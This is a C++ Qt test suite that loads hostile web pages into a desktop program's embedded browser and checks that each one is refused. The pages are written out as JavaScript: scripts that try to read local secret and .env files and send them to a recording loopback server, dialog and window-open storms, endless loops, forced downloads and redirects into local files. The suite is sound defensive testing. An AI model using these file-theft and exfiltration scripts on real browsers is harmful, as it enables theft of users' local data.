// Hostile pages against the whole program under a virtual X server, with the real web engine and
// a loopback HTTP server that records every request: pages that try to read the user's files and
// send them away, to launch other programs, to trap the window in dialogs, windows, downloads,
// frames, reloads or scripts that never end, and pages that change under the analysis. After each,
// a good page must still be analysed, and the status bar must say what happened.
#include <QAbstractButton>
#include <QApplication>
#include <QComboBox>
#include <QDir>
#include <QFile>
#include <QLabel>
#include <QLineEdit>
#include <QMessageBox>
#include <QPushButton>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTimer>
#include <QWebEnginePage>
#include <QWebEngineScript>
#include <QWebEngineView>
#include <QtTest>
#include <csignal>

#include "app/browser/loopbackserver_for_tests.h"
#include "app/browser/pagesourceextractor.h"
#include "app/browser/webenginebrowser.h"
#include "app/mainform.h"
#include "app/realinput_for_tests.h"
#include "app/testwindow_for_tests.h"
#include "views/qt/qtext.h"

namespace {

constexpr int kWaitMs = 30000;
const QByteArray kSecret = "SECRET-7f3a9c";

QByteArray utf8Page(const QString& body, const QString& head = {}) {
    return (u("<!DOCTYPE html><html><head><meta charset=\"utf-8\">") + head + u("</head><body>") + body +
            u("</body></html>"))
        .toUtf8();
}

// A script that tries every way a page has to read a local file, then sends whatever it got to
// the server at `sink` twice, as an image and then by leaving for it. `target` is the file's
// address as the page would write it, `shown` the
// address it puts in a frame and an image.
QString stealScript(const QString& target, const QString& shown, const QString& sink) {
    return u(R"(<script>
var got = [];
function note(what) { got.push(String(what).slice(0, 200)); }
var targets = ["%1", "%4", "secret.txt", "file://" + "%2", "sumoran-local:" + "%2"];
targets.forEach(function (t) {
  try { var x = new XMLHttpRequest(); x.open("GET", t, false); x.send(); note("xhr " + x.responseText); }
  catch (e) { note("xhr refused"); }
  fetch(t).then(function (r) { return r.text(); }).then(function (s) { note("fetch " + s); },
                                                         function () { note("fetch refused"); });
});
var frame = document.createElement("iframe");
frame.src = "%4";
document.body.appendChild(frame);
setTimeout(function () {
  try { note("frame " + frame.contentDocument.body.innerText); } catch (e) { note("frame refused"); }
  var image = new Image();
  image.onload = function () {
    try { var c = document.createElement("canvas"); c.getContext("2d").drawImage(image, 0, 0);
          note("canvas " + c.toDataURL()); } catch (e) { note("canvas refused"); }
  };
  image.src = "%4";
  setTimeout(function () {
    var beacon = new Image();
    beacon.onload = beacon.onerror = function () { location.href = "%3?d=" + encodeURIComponent(got.join("|")); };
    beacon.src = "%3?beacon=" + encodeURIComponent(got.join("|"));
  }, 500);
}, 1000);
</script>)")
        .arg(target, target.startsWith(u("file://")) ? target.mid(7) : target, sink, shown);
}

// Polls for a modal message box while a nested event loop runs, and answers it.
class BoxAnswerer : public QObject {
  public:
    explicit BoxAnswerer(QMessageBox::StandardButton answer) : answer_(answer) {
        connect(&timer_, &QTimer::timeout, this, [this] {
            auto* box = qobject_cast<QMessageBox*>(QApplication::activeModalWidget());
            if (!box) return;
            texts << box->text();
            box->button(answer_)->click();
        });
        timer_.start(50);
    }
    QStringList texts;

  private:
    QMessageBox::StandardButton answer_;
    QTimer timer_;
};

}  // namespace

class HostileXvfbTest : public QObject, WindowAccess {
    Q_OBJECT

    QTemporaryDir dir_;
    std::unique_ptr<PrivateTempDir> tmp_;  // the system's temporary directory while the tests run
    LoopbackServer server_;
    WebEngineBrowser* browser_ = nullptr;
    std::unique_ptr<QSignalSpy> refused_;
    int good_ = 0;

    // True when the browser put a note holding `text` in the status bar; a later event may have
    // replaced it there since.
    bool noted(const QString& text) {
        for (const QList<QVariant>& note : *refused_) {
            if (note.at(0).toString().contains(text)) return true;
        }
        return false;
    }
    QString launchedMarker() { return dir_.filePath(u("launched")); }

    bool hasWord(const QString& word) { return HasWord(*form_, word); }

    // Serves a page with a word of its own and waits until the window has analysed it: the
    // window is still usable after whatever the test did before.
    void goodPageIsAnalysed() {
        const QString word = u("контрольное%1").arg(QChar(u'а' + good_ % 32));
        const QByteArray path = "/good" + QByteArray::number(++good_) + ".html";
        serveAndOpen(path.constData(), u("<p>Это %1 слово.</p>").arg(word));
        QTRY_VERIFY_WITH_TIMEOUT(hasWord(word) && !form_->analysisRunning(), kWaitMs);
        QCOMPARE(status(), u("Document complete"));
    }

    void open(const QString& address) { form_->OpenAddress(address); }
    void serve(const char* path, const QString& body, const QString& head = {}) {
        server_.serve(path, LoopbackServer::Reply{"text/html; charset=utf-8", utf8Page(body, head)});
    }
    // Serves a UTF-8 page of `body` at `path` and opens it.
    void serveAndOpen(const char* path, const QString& body, const QString& head = {}) {
        serve(path, body, head);
        open(server_.url(QString::fromLatin1(path)));
    }

    // Clicks the page's link with id `id`, as a user would with the mouse.
    void clickLink(const char* id) {
        auto* view = qobject_cast<QWebEngineView*>(browser_->view());
        QVariant rect;
        bool done = false;
        view->page()->runJavaScript(
            QStringLiteral("(function(){var r=document.getElementById('%1').getBoundingClientRect();"
                           "return [r.left + r.width / 2, r.top + r.height / 2];})()")
                .arg(QString::fromLatin1(id)),
            [&](const QVariant& v) {
                rect = v;
                done = true;
            });
        QTRY_VERIFY_WITH_TIMEOUT(done, kWaitMs);
        const QVariantList at = rect.toList();
        QCOMPARE(at.size(), 2);
        QTest::mouseClick(view->focusProxy(), Qt::LeftButton, {}, QPoint(at[0].toInt(), at[1].toInt()));
    }

  private slots:
    void initTestCase() {
        QVERIFY(dir_.isValid());
        tmp_ = std::make_unique<PrivateTempDir>();
        QVERIFY(tmp_->isValid());
        QVERIFY(server_.start());
        // A stand-in for the desktop's launcher: it leaves a mark when anything is handed to it.
        const QString bin = dir_.filePath(u("bin"));
        QVERIFY(QDir().mkpath(bin));
        QVERIFY(WriteTestFile(bin + u("/xdg-open"), "#!/bin/sh\necho \"$@\" >> '" + launchedMarker().toUtf8() + "'\n"));
        QVERIFY(QFile::setPermissions(bin + u("/xdg-open"), QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner));
        qputenv("PATH", (bin + u(":") + qEnvironmentVariable("PATH")).toLocal8Bit());
        qunsetenv("BROWSER");
        qunsetenv("DEFAULT_BROWSER");
        QVERIFY(WriteTestFile(dir_.filePath(u("secret.txt")), kSecret + "\n"));
    }

    void init() {
        browser_ = new WebEngineBrowser;
        browser_->setResponseTimeout(1500);
        form_ = std::make_unique<TFormMain>(browser_, StartupSettings{});
        refused_ = std::make_unique<QSignalSpy>(browser_, &Browser::Refused);
        form_->extractor()->setTimeout(3000);
        form_->resize(1200, 900);
        form_->show();
        QFile::remove(launchedMarker());
    }

    // After whatever a test did, the window must still analyse a good page.
    void cleanup() {
        goodPageIsAnalysed();
        QVERIFY2(tmp_->entries().isEmpty(), qPrintable(tmp_->entries().join(u' ')));
        QVERIFY(!QApplication::activeModalWidget());
        refused_.reset();
        form_.reset();
    }

    // A page saved "complete" in site/ with its page_files/ folder, and secrets beside it and above it.
    QString writeLocalSite(const QString& body, const QString& head = {}) {
        const QString site = dir_.filePath(u("site"));
        if (!QDir().mkpath(site + u("/page_files"))) return {};
        WriteTestFile(dir_.filePath(u(".env")), "TOKEN = \"" + kSecret + "\";\n");
        WriteTestFile(dir_.filePath(u("outside.html")), utf8Page(u("<p>Запретный %1 текст.</p>").arg(kSecret)));
        WriteTestFile(site + u("/secret.txt"), kSecret + "\n");
        WriteTestFile(site + u("/secret-page.html"), utf8Page(u("<p>Тайная страница.</p>")));
        WriteTestFile(site + u("/page_files/style.css"), "#own { border: 3px solid rgb(1, 2, 3); }\n");
        WriteTestFile(site + u("/page_files/pic.png"),
                      QByteArray::fromBase64("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQG"
                                             "AhKmMIQAAAABJRU5ErkJggg=="));
        const QString page = site + u("/page.html");
        WriteTestFile(page, utf8Page(body, head));
        return page;
    }

    // Runs a script in the program's own isolated world of the page on screen and returns its value.
    QVariant evaluate(const QString& script) {
        auto* view = qobject_cast<QWebEngineView*>(browser_->view());
        QVariant value;
        bool done = false;
        view->page()->runJavaScript(script, QWebEngineScript::ApplicationWorld, [&](const QVariant& v) {
            value = v;
            done = true;
        });
        if (!QTest::qWaitFor([&] { return done; }, kWaitMs)) return {};
        return value;
    }

    void aLocalPageIsADocumentThatSendsNothing() {
        const QString sink = server_.url(QString());
        const QString page = writeLocalSite(
            u("<p>Документ с диска.</p><img id=\"own\" src=\"page_files/pic.png\"><img src=\"%1/img.png\">"
              "<iframe src=\"%1/frame.html\"></iframe><iframe src=\"../outside.html\"></iframe>"
              "<video poster=\"%1/poster.png\"></video><object data=\"%1/object\"></object>"
              "<form action=\"%1/form\" method=\"post\"><input name=\"a\" value=\"b\"></form>"
              "<script>new Image().src = \"%1/ran-inline\"; document.forms[0].submit();</script>")
                .arg(sink),
            u("<script src=\"../.env\"></script><link rel=\"stylesheet\" href=\"page_files/style.css\">"
              "<link rel=\"stylesheet\" href=\"%1/remote.css\"><link rel=\"preconnect\" href=\"%1/\">"
              "<link rel=\"prefetch\" href=\"%1/prefetch\"><link rel=\"icon\" href=\"%1/icon.png\">"
              "<style>@font-face { font-family: f; src: url(%1/font.woff); } body { font-family: f; "
              "background: url(%1/bg.png); }</style><meta http-equiv=\"refresh\" content=\"1;url=%1/refresh\">")
                .arg(sink));
        const int connections = server_.connections();
        open(page);
        QTRY_VERIFY_WITH_TIMEOUT(hasWord(u("Документ")) && !form_->analysisRunning(), kWaitMs);
        // The meta refresh is the page's last try; by the time it is refused everything else has been.
        QTRY_VERIFY_WITH_TIMEOUT(noted(u("Переход отклонён: %1/refresh").arg(sink)), kWaitMs);
        QTest::qWait(500);
        QVERIFY2(server_.connections() == connections, server_.all().join("\n----\n").constData());
        // It shows as saved: its own image and style sheet from its folder.
        QCOMPARE(evaluate(u("document.getElementById('own').naturalWidth")).toInt(), 1);
        QCOMPARE(evaluate(u("getComputedStyle(document.getElementById('own')).borderTopColor")).toString(),
                 u("rgb(1, 2, 3)"));
        QVERIFY(child<QWidget>("pnLocalPage")->isVisible());
        QVERIFY(child<QPushButton>("btAllowContent")->isVisible());
        QCOMPARE(child<QComboBox>("cbURLNavigator")->currentText(), QUrl::fromLocalFile(page).toString());
    }

    void anAllowedLocalPageStaysInItsFolder() {
        const QString report = server_.url(u("/report"));
        const QString socket = QString(report).replace(0, 4, u("ws"));
        const QString page =
            writeLocalSite(u(R"(<p>Страница со скриптами.</p><script>
var got = [];
function note(what) { got.push(String(what).slice(0, 200)); }
window.onerror = function (m) { note("onerror " + m); };
["secret.txt", "../secret.txt", "../.env", "%2"].forEach(function (t) {
  try { var x = new XMLHttpRequest(); x.open("GET", t, false); x.send(); note("xhr " + x.responseText); }
  catch (e) { note("xhr refused"); }
  fetch(t).then(function (r) { return r.text(); }).then(function (s) { note("fetch " + s); },
                                                         function () { note("fetch refused"); });
});
["../.env", "../missing.js", "page_files/none.js", "secret.txt"].forEach(function (t, k) {
  var s = document.createElement("script");
  s.onload = function () { note("probe" + k + " load"); };
  s.onerror = function () { note("probe" + k + " error"); };
  s.src = t;
  document.head.appendChild(s);
});
var frame = document.createElement("iframe");
frame.src = "../outside.html";
document.body.appendChild(frame);
setTimeout(function () {
  try { note("frame " + frame.contentDocument.body.innerText); } catch (e) { note("frame refused"); }
  note("token " + typeof TOKEN);
  var data = encodeURIComponent(got.join("|"));
  navigator.sendBeacon("%1?beacon=" + data, got.join("|"));
  try { new WebSocket("%3?d=" + data); } catch (e) {}
  new Image().src = "%1?image=" + data;
}, 1500);
</script>)")
                               .arg(report, QUrl::fromLocalFile(dir_.filePath(u("secret.txt"))).toString(), socket));
        open(page);
        QTRY_VERIFY_WITH_TIMEOUT(hasWord(u("скриптами")) && !form_->analysisRunning(), kWaitMs);
        QTest::qWait(2000);
        QCOMPARE(server_.requests("/report"), 0);
        child<QPushButton>("btAllowContent")->click();
        QTRY_VERIFY_WITH_TIMEOUT(server_.requests("/report") >= 3, kWaitMs);
        QVERIFY2(!server_.sawText(kSecret), server_.all().join("\n----\n").constData());
        // The scripts ran, read nothing, and could not even tell a file outside from a missing one.
        for (const char* seen : {"xhr refused", "fetch refused", "token undefined", "probe0 error", "probe1 error",
                                 "probe2 error", "probe3 error"})
            QVERIFY2(server_.sawText(seen), seen);
        QVERIFY(!child<QPushButton>("btAllowContent")->isVisible());
    }

    void aLocalFramesetReadsNoFrameOutsideItsFolder() {
        const QString page = writeLocalSite({});
        const QString frameset = dir_.filePath(u("site/frameset.html"));
        QVERIFY(WriteTestFile(frameset,
                              "<html><frameset cols=\"50%,50%\"><frame src=\"secret-page.html\">"
                              "<frame src=\"../outside.html\"></frameset></html>"));
        open(frameset);
        QTRY_VERIFY_WITH_TIMEOUT(hasWord(u("Тайная")) && !form_->analysisRunning(), kWaitMs);
        QVERIFY(!hasWord(u("Запретный")));
        QVERIFY(!page.isEmpty());
    }

    void redirectsNeverOpenALocalFile() {
        const QString secretPage = dir_.filePath(u("site/secret-page.html"));
        const QString localPage = writeLocalSite(u("<p>Руководство на диске.</p>"));
        server_.serve(
            "/to-file",
            LoopbackServer::Reply{
                "text/html", {}, "Location: " + QUrl::fromLocalFile(secretPage).toEncoded() + "\r\n", "302 Found"});
        server_.serve("/to-scheme",
                      LoopbackServer::Reply{
                          "text/html", {}, "Location: sumoran-local:" + secretPage.toUtf8() + "\r\n", "302 Found"});
        for (const char* path : {"/to-file", "/to-scheme"}) {
            open(localPage);  // a local page on screen, as the user guide would be
            QTRY_VERIFY_WITH_TIMEOUT(hasWord(u("Руководство")) && !form_->analysisRunning(), kWaitMs);
            refused_->clear();
            open(server_.url(QString::fromLatin1(path)));
            // The engine itself refuses a redirect to a file: address; one into the local scheme is refused here.
            QTRY_VERIFY_WITH_TIMEOUT(noted(u("Переход отклонён")) || status().contains(u("переадресация")), kWaitMs);
            QTest::qWait(500);
            QVERIFY(!hasWord(u("Тайная")));
            QVERIFY(!child<QComboBox>("cbURLNavigator")->currentText().contains(u("secret-page")));
        }
        // A local page's meta refresh, and its script once allowed, go nowhere local either.
        const QString refreshing = dir_.filePath(u("site/refresh.html"));
        QVERIFY(
            WriteTestFile(refreshing, utf8Page(u("<p>Обновляемая страница.</p>"),
                                               u("<meta http-equiv=\"refresh\" content=\"0;url=secret-page.html\">"))));
        refused_->clear();
        open(refreshing);
        QTRY_VERIFY_WITH_TIMEOUT(noted(u("secret-page.html")), kWaitMs);
        const QString scripted = dir_.filePath(u("site/script.html"));
        QVERIFY(WriteTestFile(scripted, utf8Page(u("<p>Прыгающая страница.</p><script>setTimeout(function () { "
                                                   "location.href = 'secret-page.html'; }, 300);</script>"))));
        open(scripted);
        QTRY_VERIFY_WITH_TIMEOUT(hasWord(u("Прыгающая")) && !form_->analysisRunning(), kWaitMs);
        refused_->clear();
        child<QPushButton>("btAllowContent")->click();
        QTRY_VERIFY_WITH_TIMEOUT(noted(u("secret-page.html")), kWaitMs);
        QVERIFY(!hasWord(u("Тайная")));
    }

    void theAddressBoxShowsOnlyTheTopDocument() {
        serve("/bank-login", u("<p>Вход в банк.</p>"));
        serveAndOpen("/hidden-frame.html", u("<p>Невинная страница.</p><iframe src=\"/bank-login\" "
                                             "style=\"display:none\"></iframe><script>setTimeout(function () { "
                                             "location.href = 'foo:refused'; }, 500);</script>"));
        QTRY_VERIFY_WITH_TIMEOUT(server_.requests("/bank-login") >= 1 && noted(u("foo:refused")), kWaitMs);
        auto* box = child<QComboBox>("cbURLNavigator");
        QCOMPARE(box->currentText(), server_.url(u("/hidden-frame.html")));
        for (int k = 0; k < box->count(); ++k) QVERIFY(!box->itemText(k).contains(u("bank-login")));
    }

    void leavingAPageThatHangsShowsTheNext_data() {
        QTest::addColumn<QString>("body");
        QTest::newRow("script that never ends")
            << u("<p>Вечный цикл.</p><script>setTimeout(function () { while (true) {} });</script>");
        QTest::newRow("dialog loop") << u("<p>Окна без конца.</p><script>for (;;) alert('Ловушка');</script>");
        QTest::newRow("100,000 nested elements")
            << u("<p>Глубокая страница.</p>") + u("<div>").repeated(100000) + u("дно") + u("</div>").repeated(100000);
    }

    void leavingAPageThatHangsShowsTheNext() {
        QFETCH(QString, body);
        server_.serve("/hangs.html",
                      LoopbackServer::Reply{"text/html; charset=utf-8", utf8Page(body), "Cache-Control: no-store\r\n"});
        auto* box = child<QComboBox>("cbURLNavigator");
        for (int round = 1; round <= 10; ++round) {
            // Typed into the address box and sent with "Переход", as a user leaves a page.
            box->setEditText(server_.url(u("/hangs.html?%1").arg(round)));
            action("tbGo")->trigger();
            QTRY_VERIFY_WITH_TIMEOUT(server_.requests("/hangs.html") >= round, kWaitMs);
            QTest::qWait(300);
            goodPageIsAnalysed();
        }
    }

    void anXhtmlNamespacePageShowsAsHtml() {
        const QString page = dir_.filePath(u("xhtml-era.html"));
        // Not well-formed XML: an XML parser would show an error instead of the page.
        QVERIFY(WriteTestFile(page, u("<html xmlns=\"http://www.w3.org/1999/xhtml\"><head><meta charset=\"utf-8\">"
                                      "<title>Старый сайт</title></head><body><p>Страница&nbsp;эпохи XHTML<br></p>"
                                      "</body></html>")
                                        .toUtf8()));
        open(page);
        QTRY_VERIFY_WITH_TIMEOUT(hasWord(u("эпохи")) && !form_->analysisRunning(), kWaitMs);
        // The window analyses a local file from its bytes at once; the browser shows it a little later.
        QTRY_VERIFY_WITH_TIMEOUT(evaluate(u("document.body.innerText")).toString().contains(u("эпохи")), kWaitMs);
        QCOMPARE(evaluate(u("document.contentType")).toString(), u("text/html"));
    }

    void aRemotePageCannotReachLocalFiles() {
        const QString secret = QUrl::fromLocalFile(dir_.filePath(u("secret.txt"))).toString();
        serveAndOpen("/remote-steal.html", u("<p>Удалённая страница.</p>") + stealScript(secret, secret, u("/leak2")));
        QTRY_VERIFY_WITH_TIMEOUT(server_.requests("/leak2") >= 2, kWaitMs);
        QVERIFY2(!server_.sawText(kSecret), server_.all().join("\n----\n").constData());
    }

    void externalSchemesAreNeverLaunchedUnasked() {
        serveAndOpen("/mailto.html",
                     u("<p><a id=\"mail\" href=\"mailto:someone@example.org\" "
                       "style=\"display:block;width:300px;height:80px\">Письмо</a></p>"
                       "<script>setTimeout(function(){ location.href = 'foo:scripted'; }, 300);</script>"));
        QTRY_VERIFY_WITH_TIMEOUT(hasWord(u("Письмо")), kWaitMs);
        // The scripted navigation is dropped, with a note.
        QTRY_VERIFY_WITH_TIMEOUT(noted(u("foo:scripted")), kWaitMs);

        // A click asks; "No" launches nothing.
        {
            BoxAnswerer no(QMessageBox::No);
            clickLink("mail");
            QTRY_COMPARE_WITH_TIMEOUT(no.texts.size(), 1, kWaitMs);
            QVERIFY(no.texts.first().contains(u("mailto:someone@example.org")));
        }

        // "Yes" hands the address to the desktop.
        {
            BoxAnswerer yes(QMessageBox::Yes);
            clickLink("mail");
            QTRY_COMPARE_WITH_TIMEOUT(yes.texts.size(), 1, kWaitMs);
        }
        // The desktop got that one address, and nothing before it: not the scripted one, not the
        // refused click.
        QTRY_VERIFY_WITH_TIMEOUT(QFile::exists(launchedMarker()), kWaitMs);
        QFile launched(launchedMarker());
        QVERIFY(launched.open(QIODevice::ReadOnly));
        QCOMPARE(launched.readAll(), QByteArray("mailto:someone@example.org\n"));
    }

    void scriptDialogsDoNotTrapTheWindow() {
        serveAndOpen("/alerts.html", u("<p>Окна без конца.</p><script>for (;;) { alert('Ловушка'); "
                                       "confirm('Уйти?'); prompt('Имя?'); }</script>"));
        QTRY_VERIFY_WITH_TIMEOUT(noted(u("Окно сообщения страницы не показано")), kWaitMs);
        QVERIFY(!QApplication::activeModalWidget());
    }

    void windowOpenStormOpensNoWindow() {
        serve("/storm-target.html", u("<p>Цель бури.</p>"));
        const int windows = QApplication::topLevelWidgets().size();
        serveAndOpen("/storm.html", u("<p>Буря окон.</p><a id=\"blank\" target=\"_blank\" href=\"/storm-target.html\" "
                                      "style=\"display:block;width:300px;height:80px\">Ссылка</a>"
                                      "<script>for (var i = 0; i < 200; ++i) window.open('/storm-target.html');"
                                      "new Image().src = '/storm-done';</script>"));
        // The page asks for an image after its window storm: by then any window it opened would have asked.
        QTRY_VERIFY_WITH_TIMEOUT(hasWord(u("Буря")) && server_.requests("/storm-done") >= 1, kWaitMs);
        QCOMPARE(server_.requests("/storm-target.html"), 0);
        // A click on a link to a new window opens it in the same view.
        clickLink("blank");
        QTRY_VERIFY_WITH_TIMEOUT(hasWord(u("Цель")), kWaitMs);
        QCOMPARE(QApplication::topLevelWidgets().size(), windows);
        int views = 0;
        for (QWidget* w : QApplication::allWidgets()) views += qobject_cast<QWebEngineView*>(w) ? 1 : 0;
        QCOMPARE(views, 1);
    }

    void downloadsAreRefused() {
        server_.serve("/file.bin",
                      LoopbackServer::Reply{"application/octet-stream", "binary payload",
                                            "Content-Disposition: attachment; filename=\"payload.bin\"\r\n"});
        serveAndOpen(
            "/download.html",
            u("<p>Загрузка.</p><script>setTimeout(function(){ location.href = '/file.bin'; }, 200);</script>"));
        QTRY_VERIFY_WITH_TIMEOUT(noted(u("Загрузка файла отклонена: payload.bin")), kWaitMs);
    }

    void permissionRequestsAreDenied() {
        serveAndOpen("/ask.html", u("<p>Просьбы.</p><script>navigator.geolocation.getCurrentPosition("
                                    " function () { new Image().src = '/answer?geo=granted'; },"
                                    " function () { new Image().src = '/answer?geo=denied'; });</script>"));
        QTRY_VERIFY_WITH_TIMEOUT(server_.requests("/answer") >= 1, kWaitMs);
        QVERIFY(server_.sawText("geo=denied"));
        QVERIFY(!server_.sawText("granted"));
        QTRY_VERIFY_WITH_TIMEOUT(noted(u("Запрос страницы отклонён: местоположение")), kWaitMs);
    }

    void aThousandFramesAreReadUpToTheBound() {
        auto word = [](int k) { return u("кадр") + QChar(u'а' + k / 32 % 32) + QChar(u'а' + k % 32); };
        // Frames filled by script, so that their words are in no other document.
        const QString frames =
            u("<script>for (var k = 0; k < 1000; ++k) {"
              " var f = document.createElement('iframe'); f.width = 20; f.height = 20;"
              " document.body.appendChild(f);"
              " f.contentDocument.body.innerHTML = '<p>кадр' +"
              " String.fromCharCode(0x430 + (k >> 5) % 32, 0x430 + k % 32) + '</p>'; }</script>");
        QCOMPARE(word(33), u("кадрбб"));
        serveAndOpen("/frames.html", frames);
        // A thousand frames take the web engine most of a minute on a busy two-core machine.
        QTRY_VERIFY_WITH_TIMEOUT(hasWord(word(0)) && !form_->analysisRunning(), 4 * kWaitMs);
        QVERIFY(hasWord(word(kMaxFrames - 1)));
        QVERIFY(!hasWord(word(kMaxFrames)));
        QVERIFY2(status().contains(u("Кадров на странице: 1000, прочитаны первые 64")), qPrintable(status()));
    }

    void aMetaRefreshLoopLetsTheUserLeave() {
        serveAndOpen("/refresh.html", u("<p>Снова и снова.</p>"), u("<meta http-equiv=\"refresh\" content=\"0\">"));
        QTRY_VERIFY_WITH_TIMEOUT(server_.requests("/refresh.html") >= 5, kWaitMs);
    }

    void aScriptThatNeverEndsIsGivenUp() {
        serveAndOpen("/forever.html", u("<p>Вечный цикл.</p><script>window.onload = function () { "
                                        "setTimeout(function () { for (;;) {} }, 0); };</script>"));
        QTRY_VERIFY_WITH_TIMEOUT(status().contains(u("Страница не отдала исходный текст за 3 с")), kWaitMs);
        QVERIFY(!form_->analysisRunning());
    }

    void aKilledRenderProcessKeepsTheResults() {
        goodPageIsAnalysed();
        const auto words = form_->document().analysis().slWordFull.size();
        // Busy for long the first time it is shown, not when it is shown again.
        server_.serve("/busy.html", [](int n) {
            const QString script = n == 1 ? u("<script>window.onload = function () { setTimeout(function () {"
                                              " var t = Date.now(); while (Date.now() - t < 20000) {} }, 0); };"
                                              "</script>")
                                          : QString();
            return LoopbackServer::Reply{"text/html; charset=utf-8", utf8Page(u("<p>Занятая страница.</p>") + script)};
        });
        open(server_.url(u("/busy.html")));
        QTRY_VERIFY_WITH_TIMEOUT(form_->analysisRunning(), kWaitMs);
        QVERIFY(browser_->renderProcessPid() > 0);
        ::kill(static_cast<pid_t>(browser_->renderProcessPid()), SIGKILL);
        QTRY_VERIFY_WITH_TIMEOUT(status().contains(u("Процесс отображения страницы завершился")), kWaitMs);
        QVERIFY(!form_->analysisRunning());
        QCOMPARE(form_->document().analysis().slWordFull.size(), words);
        QVERIFY(!hasWord(u("Занятая")));
        // "Обновить" brings the page back, and it is analysed.
        action("tbRefresh")->trigger();
        QTRY_VERIFY_WITH_TIMEOUT(hasWord(u("Занятая")) && !form_->analysisRunning(), kWaitMs);
    }

    void aPageThatLeavesDuringTheExtractionIsNotMixedIn() {
        serve("/arrived.html", u("<p>Пришедшая страница.</p>"));
        serveAndOpen("/leaving.html", u("<p>Уходящая страница.</p><script>window.onload = function () { "
                                        "setTimeout(function () { var t = Date.now(); "
                                        "while (Date.now() - t < 1000) {} location.href = '/arrived.html'; "
                                        "}, 0); };</script>"));
        QTRY_VERIFY_WITH_TIMEOUT(hasWord(u("Пришедшая")) && !form_->analysisRunning(), kWaitMs);
        QVERIFY(!hasWord(u("Уходящая")));
    }

    void anAddressThatDoesNotResolveSaysSo() {
        goodPageIsAnalysed();
        const auto words = form_->document().analysis().slWordFull.size();
        open(u("http://no-such-host.invalid/page.html"));
        QTRY_VERIFY_WITH_TIMEOUT(status().contains(u("Не удалось загрузить страницу")), kWaitMs);
        QVERIFY(status().contains(u("http://no-such-host.invalid/page.html")));
        auto* errorPage = browser_->view()->findChild<QLabel*>(u("wbErrorPage"));
        QVERIFY(errorPage && errorPage->isVisible());
        QVERIFY(errorPage->text().contains(u("Страница не загружена")));
        QCOMPARE(form_->document().analysis().slWordFull.size(), words);
        goodPageIsAnalysed();
        QVERIFY(!errorPage->isVisible());
    }

    void thePageOnScreenIsAnalysedWithoutAskingAgain() {
        server_.serve("/changing.html", [](int n) {
            return LoopbackServer::Reply{"text/html; charset=utf-8",
                                         utf8Page(u("<p>Запрос %1 слово.</p>").arg(n == 1 ? u("первый") : u("второй"))),
                                         "Cache-Control: no-store\r\n"};
        });
        open(server_.url(u("/changing.html")));
        QTRY_VERIFY_WITH_TIMEOUT(hasWord(u("первый")) && !form_->analysisRunning(), kWaitMs);
        QVERIFY(!hasWord(u("второй")));
        QCOMPARE(server_.requests("/changing.html"), 1);
        // A forced analysis and an index option take the same page again, not a new copy.
        QMetaObject::invokeMethod(form_.get(), "ExtractAndAnalyse");
        QTRY_VERIFY_WITH_TIMEOUT(!form_->analysisRunning(), kWaitMs);
        action("miIndexTitle")->trigger();
        QTRY_VERIFY_WITH_TIMEOUT(!form_->analysisRunning(), kWaitMs);
        QVERIFY(hasWord(u("первый")));
        QVERIFY(!hasWord(u("второй")));
        QCOMPARE(server_.requests("/changing.html"), 1);
    }

    void enterInTheAddressBoxNavigatesOnce() {
        if (!RealInput::available()) QSKIP("needs xdotool and openbox");
        serve("/enter.html", u("<p>Ввод адреса.</p>"));
        const QString address = server_.url(u("/enter.html"));
        goodPageIsAnalysed();  // the history holds another address before
        RealInput::activate(form_.get());
        for (int round = 1; round <= 2; ++round) {  // the second time the address is in the history
            RealInput::key({u("ctrl+l")});
            RealInput::type(address);
            RealInput::key({u("Return")});
            QTRY_VERIFY_WITH_TIMEOUT(server_.requests("/enter.html") >= round && !form_->analysisRunning(), kWaitMs);
            // Leaving the box for a list is no choice of an address either.
            RealInput::click(view("lvWordBase")->viewport(), QPoint(30, 10));
            QTest::qWait(500);
            // A second visit would have been asked for at once, before the next page is.
            goodPageIsAnalysed();
            QCOMPARE(server_.requests("/enter.html"), round);
        }
        // An address chosen from the box's list is visited.
        RealInput::activate(form_.get());
        RealInput::key({u("ctrl+l")});
        RealInput::key({u("alt+Down")});
        auto* box = child<QComboBox>("cbURLNavigator");
        QTRY_VERIFY_WITH_TIMEOUT(box->view()->isVisible(), kWaitMs);
        const int item = box->findText(address);
        QVERIFY(item >= 0);
        RealInput::click(box->view()->viewport(), box->view()->visualRect(box->model()->index(item, 0)).center());
        QTRY_COMPARE_WITH_TIMEOUT(server_.requests("/enter.html"), 3, kWaitMs);
    }
};

QTEST_MAIN(HostileXvfbTest)
#include "hostile_xvfb_test.moc"
